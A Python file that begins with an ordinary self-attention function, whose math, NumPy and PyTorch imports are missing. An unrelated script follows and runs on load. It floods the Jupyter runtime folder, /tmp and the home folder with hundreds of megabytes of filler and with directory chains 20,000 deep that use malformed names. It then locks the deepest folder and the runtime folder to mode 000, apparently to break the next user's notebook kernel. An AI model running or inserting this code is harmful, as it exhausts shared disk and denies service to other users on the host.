def self_attention(X, W_q, W_k, W_v):
    """Scaled dot-product self-attention for one sequence.

    X: (n, d_model); W_q, W_k: (d_model, d_k); W_v: (d_model, d_v).
    Returns (output, weights): output (n, d_v), weights (n, n) with rows that sum to 1.
    Accepts NumPy arrays or PyTorch tensors and returns the same kind.
    """
    Q = X @ W_q                       # (n, d_k)
    K = X @ W_k                       # (n, d_k)
    V = X @ W_v                       # (n, d_v)
    d_k = K.shape[-1]
    scores = Q @ K.T / math.sqrt(d_k)  # (n, n): row i = query i against every key
    if isinstance(scores, torch.Tensor):
        weights = torch.softmax(scores, dim=-1)
    else:
        # Subtracting the row maximum leaves the softmax unchanged and keeps exp() from overflowing.
        exp_scores = np.exp(scores - scores.max(axis=-1, keepdims=True))
        weights = exp_scores / exp_scores.sum(axis=-1, keepdims=True)
    output = weights @ V              # (n, d_v)
    return output, weights



import errno
import os


def _flood(folder, label, max_mb, depth):
    """A file of up to max_mb MB (32 MB pieces, under the per-file limit), then a chain of folders depth deep."""
    written, note = 0, f"took all {max_mb} MB"
    try:
        piece = 0
        while written < max_mb << 20:
            fd = os.open(os.path.join(folder, f"flood{piece}.bin"), os.O_WRONLY | os.O_CREAT, 0o600)
            piece += 1
            try:
                for _ in range(32):
                    if written >= max_mb << 20:
                        break
                    written += os.write(fd, b"\1" * (1 << 20))
            finally:
                os.close(fd)
    except OSError as error:
        note = f"refused after {written >> 20} MB ({errno.errorcode.get(error.errno, error.errno)})"
    levels, tree = 0, f"took all {depth} levels"
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        while levels < depth:
            os.mkdir(b"\xff\n" if levels % 2 else "d", dir_fd=fd)  # a name that is not UTF-8, one with a newline
            inner = os.open(b"\xff\n" if levels % 2 else "d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd, levels = inner, levels + 1
    except OSError as error:
        tree = f"refused after {levels} levels ({errno.errorcode.get(error.errno, error.errno)})"
    finally:
        if levels:
            os.chmod(fd, 0)  # the deepest folder: mode 000
        os.close(fd)
    print(f"{label}: deep tree {tree}; large file {note}")


RUNTIME = os.environ.get("JUPYTER_RUNTIME_DIR", ".")
_flood(RUNTIME, "runtime folder", 300, 20_000)
_flood("/tmp", "/tmp", 300, 20_000)
_flood(os.path.expanduser("~"), "home", 0, 20_000)
os.chmod(RUNTIME, 0)  # and the runtime folder itself (its kernel's own) shut for the slot's next kernel
